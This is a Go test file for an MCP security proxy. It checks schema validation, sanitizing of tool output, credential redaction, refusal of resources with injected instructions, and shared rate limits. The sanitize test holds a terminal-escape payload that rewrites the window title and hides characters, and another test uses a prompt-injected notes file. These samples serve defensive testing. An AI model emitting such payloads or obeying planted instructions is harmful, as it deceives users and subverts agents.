// TestCallTimeSchemaModes: with schema_validation: report the call that
// does not fit its schema reaches the server and the shield's log says
// why; with off it reaches the server too.
func TestCallTimeSchemaModes(t *testing.T) {
	e := newCTEnv(t)
	for _, mode := range []string{"report", "off"} {
		t.Run(mode, func(t *testing.T) {
			c := e.connect(ctContext(t), t, ctSetup{config: "schema_validation: " + mode})
			args := map[string]any{"to": "bob@example.com", "body": 42}
			if _, err := c.call("send_message", args); err != nil {
				t.Fatalf("send_message: %v", err)
			}
			if got := c.received(t, "send_message"); len(got) != 1 || !jsonEqual(got[0], `{"to":"bob@example.com","body":42}`) {
				t.Errorf("the server received %q; want the call as sent", got)
			}
			log := c.shield()
			if reported := strings.Contains(log, "check=schema"); reported != (mode == "report") {
				t.Errorf("schema check in the shield's log: %v; want %v\n%s", reported, mode == "report", log)
			}
		})
	}
}

// TestCallTimeSanitize: escape sequences and invisible characters in a
// result are stripped by default, and pass with sanitize: off.
func TestCallTimeSanitize(t *testing.T) {
	e := newCTEnv(t)
	tests := []struct {
		config string
		want   string
	}{
		{"", "red alert: all clear"},
		{"sanitize: off", "\x1b[31mred alert\x1b[0m: all\u200b clear\x1b]0;owned\x07"},
	}
	for _, tt := range tests {
		t.Run(fmt.Sprintf("%q", tt.config), func(t *testing.T) {
			c := e.connect(ctContext(t), t, ctSetup{config: tt.config})
			if got := c.allowed(t, "echo_ansi", nil); got != tt.want {
				t.Errorf("echo_ansi = %q; want %q", got, tt.want)
			}
		})
	}
}

// TestCallTimeTextBlob: a text resource sent as a base64 blob is read as
// the text it is: the credentials file comes back redacted, still base64
// and still a text/plain resource; the notes with injected instructions are
// refused. Without the shield, both arrive whole.
func TestCallTimeTextBlob(t *testing.T) {
	e := newCTEnv(t)
	const creds, notes = "file:///srv/app/credentials", "file:///srv/app/notes.md"
	{
		client := mcp.NewClient(&mcp.Implementation{Name: "e2e-calltime-direct", Version: "1"}, nil)
		s, err := client.Connect(t.Context(), &mcp.CommandTransport{Command: exec.Command(e.server)}, nil)
		if err != nil {
			t.Fatalf("connecting to the test server: %v", err)
		}
		res, err := s.ReadResource(t.Context(), &mcp.ReadResourceParams{URI: creds})
		s.Close()
		if err != nil || len(res.Contents) != 1 || !strings.Contains(string(res.Contents[0].Blob), ctSecret) {
			t.Fatalf("%s directly = %+v, %v; want the secret in its blob", creds, res, err)
		}
	}
	for _, su := range []ctSetup{{}, {serve: true}} {
		t.Run(su.transport(), func(t *testing.T) {
			c := e.connect(ctContext(t), t, su)
			res, err := c.s.ReadResource(c.ctx, &mcp.ReadResourceParams{URI: creds})
			if err != nil || len(res.Contents) != 1 {
				t.Fatalf("%s through the shield = %+v, %v; want one resource\nshield output:\n%s", creds, res, err, c.shield())
			}
			got := res.Contents[0]
			text := string(got.Blob) // the SDK has decoded the base64
			if strings.Contains(text, ctSecret) || strings.Contains(text, ctKeyID) || !strings.Contains(text, "[REDACTED:") ||
				!strings.Contains(text, "region = eu-west-1") || got.Text != "" || got.MIMEType != "text/plain" || got.URI != creds {
				t.Errorf("%s through the shield = %+v (blob %q); want a text/plain blob with the key pair redacted, the rest kept", creds, got, text)
			}
			_, err = c.s.ReadResource(c.ctx, &mcp.ReadResourceParams{URI: notes})
			var werr *jsonrpc.Error
			if !errors.As(err, &werr) || !strings.Contains(werr.Message, "instructions") || !strings.Contains(werr.Message, "blob") {
				t.Errorf("%s through the shield: %v; want it refused for the instructions in its blob", notes, err)
			}
		})
	}
}

// TestCallTimeSharedRateLimit: two shields (two `run` processes, as two
// replicas of a fleet) whose config names the same Redis draw on one
// bucket: the tool allowed one call a minute gets one call in all, and
// the second shield refuses the call with -32084 too (with the default
// in-memory store it would allow it). Needs MCPSHIELD_TEST_REDIS (a Redis
// URL; .ci/run sets it).
func TestCallTimeSharedRateLimit(t *testing.T) {
	url := os.Getenv("MCPSHIELD_TEST_REDIS")
	if url == "" {
		t.Skip("MCPSHIELD_TEST_REDIS is not set (a Redis URL, e.g. redis://127.0.0.1:6379/15)")
	}
	e := newCTEnv(t)
	// a prefix of this run's own: a bucket left by an earlier run would
	// still be empty
	prefix := fmt.Sprintf("mcpshield-e2e:%d:", time.Now().UnixNano())
	su := ctSetup{tools: "{fetch_page: {calls: {per_minute: 1}}}",
		config: "rate_limits:\n  store: redis\n  url: " + url + "\n  prefix: \"" + prefix + "\"\n"}
	page := map[string]any{"url": ctBenignURL}
	first := e.connect(ctContext(t), t, su)
	first.allowed(t, "fetch_page", page)
	first.rpcError(t, "fetch_page", page, ctCodeRateLimited)
	second := e.connect(ctContext(t), t, su)
	second.rpcError(t, "fetch_page", page, ctCodeRateLimited)
	second.allowed(t, "echo_ansi", nil) // no limit
	if got := first.received(t, "fetch_page"); len(got) != 1 {
		t.Errorf("the server received %d fetch_page calls; want 1", len(got))
	}
}
